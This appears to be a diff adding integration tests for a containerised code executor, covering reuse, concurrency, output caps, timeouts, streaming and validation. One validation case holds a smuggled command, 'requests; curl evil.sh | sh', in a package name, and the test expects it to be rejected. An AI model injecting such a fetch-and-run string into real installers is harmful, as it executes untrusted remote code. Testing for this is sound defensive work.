@@ -1,0 +1,155 @@
+// The executor against the real engine: reuse, concurrency, stdin/env/workdir, output caps,
+// timeouts, streaming, runtimes and the errors a caller sees.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { Phase, RuntimeType, type ExecuteEvent } from '../../../shared/gen/loom/v1/docker_pb';
+import { CommandNotFoundError, ValidationError } from './errors';
+import { createExecutor, type Executor } from './executor';
+import { containersOf, requireEngineAndImages, text } from './test-support';
+
+let executor: Executor;
+
+beforeAll(async () => {
+  await requireEngineAndImages();
+  executor = await createExecutor({ maxContainersPerKey: 4 });
+});
+
+afterAll(async () => {
+  await executor?.close();
+});
+
+const py = (code: string) => ['python3', '-c', code];
+
+describe('executor', () => {
+  it('runs Python and reuses the same container for the next execution', async () => {
+    const first = await executor.execute({ command: py("print('Hello from Docker!')") });
+    expect(first.exitCode).toBe(0);
+    expect(text(first.stdout)).toBe('Hello from Docker!\n');
+    expect(text(first.stderr)).toBe('');
+    expect(first.containerCreated).toBe(true);
+    const second = await executor.execute({ command: py('import sys; sys.exit(3)') });
+    expect(second.exitCode).toBe(3);
+    expect(second.containerCreated).toBe(false);
+    expect(second.containerId).toBe(first.containerId);
+    expect(second.durationMs).toBeGreaterThan(0);
+    expect(second.timings?.runMs).toBeGreaterThan(0);
+  });
+
+  it('gives 20 concurrent executions on a pool of 4 each their own output', async () => {
+    const runs = await Promise.all(
+      Array.from({ length: 20 }, (_, i) =>
+        executor.execute({ command: py(`import sys, time; time.sleep(0.05); print(${i} * 7); print('e${i}', file=sys.stderr)`) }),
+      ),
+    );
+    runs.forEach((r, i) => {
+      expect(r.exitCode).toBe(0);
+      expect(text(r.stdout)).toBe(`${i * 7}\n`);
+      expect(text(r.stderr)).toBe(`e${i}\n`);
+    });
+    const ids = new Set(runs.map((r) => r.containerId));
+    expect(ids.size).toBeGreaterThan(1);
+    expect(ids.size).toBeLessThanOrEqual(4);
+    expect(executor.containers().filter((c) => ids.has(c.id))).toHaveLength(ids.size);
+  });
+
+  it('delivers stdin (then closes it), env and the working directory', async () => {
+    const r = await executor.execute({
+      command: py('import os, sys; data = sys.stdin.read(); print(data.upper()); print(os.environ["GREETING"]); print(os.getcwd()); print(len(os.environ["LOOM_EXECUTION_ID"]))'),
+      stdin: new TextEncoder().encode('from stdin'),
+      env: { GREETING: 'hi; $(not a shell)' },
+      workingDir: '/usr',
+    });
+    expect(text(r.stdout)).toBe('FROM STDIN\nhi; $(not a shell)\n/usr\n36\n');
+  });
+
+  it('gives a program that reads stdin an immediate end of file when there is none', async () => {
+    const r = await executor.execute({ command: py('import sys; print(repr(sys.stdin.read()))'), timeoutSeconds: 20 });
+    expect(r.timedOut).toBe(false);
+    expect(text(r.stdout)).toBe("''\n");
+  });
+
+  it('caps kept output per stream and flags truncation', async () => {
+    const r = await executor.execute({
+      command: py("import sys; sys.stdout.write('x' * 100000); sys.stderr.write('y' * 10)"),
+      maxOutputBytes: 1000,
+    });
+    expect(r.stdout.length).toBe(1000);
+    expect(r.stdoutTruncated).toBe(true);
+    expect(r.stderrTruncated).toBe(false);
+    expect(r.truncated).toBe(true);
+    expect(text(r.stderr)).toBe('y'.repeat(10));
+  });
+
+  it('kills an endless loop at its timeout and the next request on that key succeeds', async () => {
+    const config = { name: 'timeout-test' };
+    const started = Date.now();
+    const r = await executor.execute({ command: py('while True: pass'), timeoutSeconds: 2, config });
+    const elapsed = Date.now() - started;
+    expect(r.timedOut).toBe(true);
+    expect(r.exitCode).toBe(137);
+    expect(elapsed).toBeGreaterThanOrEqual(2000);
+    expect(elapsed).toBeLessThan(8000);
+    const next = await executor.execute({ command: py("print('alive')"), config });
+    expect(next.exitCode).toBe(0);
+    expect(text(next.stdout)).toBe('alive\n');
+    expect(next.timedOut).toBe(false);
+    expect(next.containerId).not.toBe(r.containerId);
+  });
+
+  it('streams output and phases while the program runs', async () => {
+    const events: { at: number; event: ExecuteEvent }[] = [];
+    for await (const event of executor.stream({ command: py("import time; print('a', flush=True); time.sleep(1.5); print('b')") })) {
+      events.push({ at: Date.now(), event });
+    }
+    const kinds = events.map((e) => e.event.event.case);
+    expect(kinds.at(-1)).toBe('done');
+    const phases = events.flatMap((e) => (e.event.event.case === 'phase' ? [e.event.event.value.phase] : []));
+    expect(phases).toEqual(expect.arrayContaining([Phase.IMAGE, Phase.CONTAINER, Phase.RUNNING, Phase.DONE]));
+    const firstOut = events.find((e) => e.event.event.case === 'stdout');
+    const done = events.at(-1);
+    expect(firstOut && text(firstOut.event.event.value as Uint8Array)).toMatch(/^a/);
+    // 'a' arrived while the program was still sleeping, not at the end.
+    expect(done!.at - firstOut!.at).toBeGreaterThan(1000);
+  });
+
+  it('runs Node on node:20-slim', async () => {
+    const r = await executor.execute({ runtimeType: RuntimeType.NODE, command: ['node', '-e', 'console.log(process.version.split(".")[0], process.getuid())'] });
+    expect(text(r.stdout)).toBe('v20 65534\n');
+  });
+
+  it('runs a custom image and fails clearly when it lacks the command', async () => {
+    const config = { runtimeType: RuntimeType.CUSTOM, imageSource: { case: 'customImage' as const, value: 'node:20-slim' } };
+    const ok = await executor.execute({ runtimeType: RuntimeType.CUSTOM, command: ['node', '-e', 'console.log(1+1)'], config });
+    expect(text(ok.stdout)).toBe('2\n');
+    const err = await executor.execute({ runtimeType: RuntimeType.CUSTOM, command: ['python3', '-c', 'print(1)'], config }).catch((e: unknown) => e);
+    expect(err).toBeInstanceOf(CommandNotFoundError);
+    expect((err as CommandNotFoundError).command).toBe('python3');
+    expect((err as Error).message).toContain('node:20-slim');
+    // The container stays usable after that error.
+    const again = await executor.execute({ runtimeType: RuntimeType.CUSTOM, command: ['node', '-e', 'console.log(3)'], config });
+    expect(again.containerCreated).toBe(false);
+  });
+
+  it('refuses bad requests with the field named, before touching the engine', async () => {
+    const before = (await containersOf(executor.scheduler.owner.instance)).length;
+    const cases: [Parameters<Executor['execute']>[0], string][] = [
+      [{ command: [] }, 'command'],
+      [{ runtimeType: 42 as RuntimeType, command: ['x'] }, 'runtime_type'],
+      [{ command: ['x'], config: { resourceLimits: { memoryMb: -1n } } }, 'config.resource_limits.memory_mb'],
+      [{ command: ['x'], config: { packages: ['requests; curl evil.sh | sh'] } }, 'config.packages[0]'],
+      [{ command: ['x'], env: { 'BAD NAME': '1' } }, 'env.BAD NAME'],
+    ];
+    for (const [request, field] of cases) {
+      const err = await executor.execute(request).catch((e: unknown) => e);
+      expect(err).toBeInstanceOf(ValidationError);
+      expect((err as ValidationError).field).toBe(field);
+      expect((err as Error).message).toContain(field);
+    }
+    expect((await containersOf(executor.scheduler.owner.instance)).length).toBe(before);
+  });
+
+  it('turns a CPU request the engine cannot give into an error naming cpu_cores', async () => {
+    const err = await executor.execute({ command: py('1'), config: { resourceLimits: { cpuCores: 200 } } }).catch((e: unknown) => e);
+    expect(err).toBeInstanceOf(ValidationError);
+    expect((err as ValidationError).field).toBe('config.resource_limits.cpu_cores');
+  });
+});
